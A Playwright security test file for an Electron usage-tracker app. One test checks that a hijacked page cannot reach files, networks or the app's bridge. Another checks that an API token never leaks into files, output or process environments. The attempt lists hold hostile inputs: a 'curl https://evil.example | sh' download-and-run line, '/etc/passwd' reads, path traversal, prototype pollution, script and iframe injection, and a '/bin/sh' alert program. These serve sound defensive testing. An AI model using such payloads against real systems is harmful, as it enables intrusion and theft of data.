import type { ElectronApplication } from '@playwright/test';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { FAKE_TOKEN } from '../fakes/credentials';
import { usageBody } from '../fakes/api/usage-body';
import { filesContaining } from './support/files';
import { answerQuestions, questions } from './support/questions';
import { descendants } from './support/processes';
import { DAY, HOUR, openPopover, resetIn } from './support/quotide';
import { expect, test } from './support/test';

/**
 * What a page that was taken over tries, as text for the page; each is refused by an error or by a value that is given
 * only there. `URL` is the address of a server.
 */
const BRIDGE_ATTEMPTS = [
  "quotide.openLink('https://evil.example')",
  "quotide.openLink('file:///etc/passwd')",
  "quotide.openLink('javascript:alert(1)')",
  "quotide.openLink('__proto__')",
  "quotide.openLink('constructor')",
  'quotide.openLink({ toString: null })',
  "quotide.showFile('/etc/passwd')",
  "quotide.showFile('../../etc/passwd')",
  "quotide.copy('curl https://evil.example | sh')",
  'quotide.setHeight(1e9)',
  'quotide.setHeight(-1)',
  'quotide.setHeight(NaN)',
  "quotide.openWindow('x'.repeat(3000))",
  "quotide.setOtlpHeaders('x'.repeat(9000))",
  "quotide.forgetHistory('__proto__')",
  "quotide.exportHistory({ format: '../../.bashrc', since: 0, until: 1 })",
  "quotide.watchSession({ path: '/etc/passwd' })",
  "quotide.sharePicture({ area: { x: 0, y: 0, width: 9, height: 9 }, to: '/etc/passwd' })",
] as const;

const AROUND = [
  "eval('1')",
  "new Function('return 1')()",
  "import('data:text/javascript,export default 1')",
  "import('file:///etc/passwd')",
  "fetch('file:///etc/passwd')",
  "fetch('app://quotide/../../package.json').then((answer) => { if (answer.status !== 200) throw answer; })",
  'fetch(URL)',
  "new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', URL); x.send(); })",
  'new Promise((done, fail) => { const s = new WebSocket(URL.replace("http", "ws")); s.onopen = done; s.onerror = fail; })',
  'new Promise((done, fail) => { const s = new EventSource(URL); s.onopen = done; s.onerror = fail; })',
  'new Promise((done, fail) => { const w = new Worker(`data:text/javascript,postMessage(1)`); w.onmessage = done; w.onerror = fail; })',
  "new Promise((done, fail) => { const w = new Worker(globalThis.URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = fail; })",
  "new Promise((done, fail) => { const w = new SharedWorker('data:text/javascript,1'); w.onerror = fail; })",
  'navigator.serviceWorker.register("/x.js")',
  'navigator.clipboard.readText()',
  'navigator.mediaDevices.getUserMedia({ audio: true })',
  "new Promise((done, fail) => { const s = document.createElement('script'); s.src = URL; s.onload = done; s.onerror = fail; document.head.append(s); })",
  "new Promise((done, fail) => { const s = document.createElement('script'); s.textContent = 'globalThis.inlineRan = true'; document.head.append(s); globalThis.inlineRan ? done() : fail(); })",
] as const;

/** They end without a value; what they would have done is looked for afterwards. */
const NAVIGATIONS = [
  "location.href = 'file:///etc/passwd'",
  "location.href = 'data:text/html,x'",
  "location.href = 'javascript:document.title = 1'",
  "window.open('file:///etc/passwd')",
  "window.open(URL, '_blank', 'nodeIntegration=yes')",
  "document.body.insertAdjacentHTML('beforeend', `<iframe src='${URL}/frame'></iframe><iframe src='file:///etc/passwd'></iframe>`)",
  "document.body.insertAdjacentHTML('beforeend', `<object data='${URL}/object'></object><embed src='${URL}/embed'>`)",
  "document.body.insertAdjacentHTML('beforeend', `<form id='f' action='${URL}/form' method='post'></form>`); document.querySelector('#f').submit()",
  "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv='refresh' content='0;url=${URL}/meta'>`)",
  "const a = document.createElement('a'); a.href = URL + '/download'; a.download = 'x'; document.body.append(a); a.click()",
  "navigator.sendBeacon(URL + '/beacon', 'x')",
] as const;

test('a page that was taken over reaches nothing through the bridge or beside it', async ({ world }) => {
  const app = await world.start();
  const page = await openPopover(app, await world.trayWith('5-hour'));
  const answerWith = await answerQuestions(app);
  await answerWith('Cancel');
  const before = await page.evaluate(() => window.quotide.getSettings());
  // Each in a task of its own: no content policy holds back what the debugger runs itself.
  const outcomes = async (attempts: readonly string[]) => {
    const reached: string[] = [];
    for (const attempt of attempts) {
      const attempted = `(async () => { const URL = ${JSON.stringify(world.api.url)}; await (${attempt}); })()`;
      const code = `new Promise((done, fail) => setTimeout(() => ${attempted}.then(done, fail)))`;
      const isRefused = await page.evaluate(code).then(
        () => false,
        () => true,
      );
      if (!isRefused) reached.push(attempt);
    }
    return reached;
  };
  expect(await outcomes(BRIDGE_ATTEMPTS)).toEqual([]);
  expect(await outcomes(AROUND)).toEqual([]);

  for (const attempt of NAVIGATIONS)
    await page.evaluate(`(() => { const URL = ${JSON.stringify(world.api.url)}; ${attempt}; })()`);
  // The window's own frame still answers, from where it was.
  await expect.poll(() => page.evaluate(() => document.querySelector('.popover') !== null)).toBe(true);
  expect(page.url()).toMatch(/^app:\/\/quotide\/index\.html/);
  expect(app.windows()).toHaveLength(1);
  const paths = world.api.requests.map(({ path }) => path);
  expect(paths.filter((path) => !path.startsWith('/api/'))).toEqual([]);

  // A prototype in the place of a setting reaches neither main's objects nor the settings.
  const polluted = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
  await page.evaluate(
    (text) => window.quotide.changeSettings(JSON.parse(text) as object).catch(() => null),
    polluted,
  );
  expect(await app.evaluate(() => 'polluted' in {})).toBe(false);
  await page
    .evaluate(() => window.quotide.changeSettings({ alerts: { program: '/bin/sh' } } as object))
    .catch(() => null);
  expect(await page.evaluate(() => window.quotide.getSettings())).toEqual(before);
  expect(await questions(app)).toEqual([]);
});

/** Command lines and environments of the app's processes, as other programs of the user can read them. */
function visibleOf(app: ElectronApplication): string {
  const pid = app.process().pid ?? 0;
  const read = (each: number, what: string) => {
    const file = `/proc/${String(each)}/${what}`;
    try {
      return readFileSync(file, 'latin1');
    } catch {
      return '';
    }
  };
  return [pid, ...descendants(pid, '')]
    .flatMap((each) => ['cmdline', 'environ'].map((what) => read(each, what)))
    .join('\n');
}

test('the token is in no file, output, command line or environment, nor in the input of a program, after a crash too', async ({
  world,
}) => {
  test.setTimeout(150_000);
  const usage = (utilization: number) =>
    usageBody({
      five_hour: { utilization, resetsAt: resetIn(40 * HOUR) },
      seven_day: { utilization: 17, resetsAt: resetIn(6 * DAY) },
    });
  const seen = join(world.home, 'seen');
  const program = join(world.home, 'on-event');
  writeFileSync(program, `#!/bin/sh\n{ env; echo "$@"; cat; } >> '${seen}'\n`);
  chmodSync(program, 0o755);
  mkdirSync(world.dataDir, { recursive: true });
  writeFileSync(join(world.dataDir, 'settings.json'), JSON.stringify({ alerts: { program } }));
  world.api.setUsage(usage(42));
  const app = await world.start({ QUOTIDE_TIME_SCALE: '60' });
  let output = '';
  const main = app.process();
  for (const stream of [main.stdout, main.stderr])
    stream?.on('data', (part: Buffer) => (output += part.toString()));
  const page = await openPopover(app, await world.trayWith('42'));
  await world.api.waitForRequests(world.api.requests.length + 2, 40_000);
  world.api.setUsage(usage(96));
  const input = () => (existsSync(seen) ? readFileSync(seen, 'utf8') : '');
  await expect.poll(input, { timeout: 40_000 }).toContain('five_hour');
  world.api.answer({ status: 401, body: { error: { message: `bad ${FAKE_TOKEN}` } } });
  await expect(page.locator('.popover')).toContainText(/claude/i, { timeout: 30_000 });

  const visible = visibleOf(app);
  expect(visible).toContain(world.dataDir);
  main.kill('SIGKILL');
  await expect.poll(() => main.exitCode ?? main.signalCode).not.toBeNull();
  for (const text of [visible, output, input()]) expect(text).not.toContain(FAKE_TOKEN);
  // Claude Code's own folder has it, and no other: data, profile, cache and dumps lie in this home.
  rmSync(world.configDir, { recursive: true });
  expect(filesContaining(world.home, FAKE_TOKEN)).toEqual([]);
});
